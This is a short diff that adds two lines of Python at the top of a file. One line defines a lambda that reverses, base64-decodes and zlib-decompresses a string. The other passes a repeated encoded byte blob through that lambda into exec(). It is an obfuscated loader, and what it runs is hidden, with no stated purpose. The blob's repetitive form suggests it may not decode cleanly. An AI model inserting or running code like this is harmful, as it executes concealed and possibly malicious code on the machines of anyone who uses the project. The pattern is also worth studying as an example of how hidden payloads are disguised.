@@ -1,0 +1,2 @@
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
+exec((_)(b'pBL+/BgMBlRlcoM5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJepBL+/BgMBlRlcoM5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJepBL+/BgMBlRlcoM5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJepBL+/BgMBlRlcoM5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJepBL+/BgMBlRlcoM5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJepBL+/BgMBlRlcoM5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
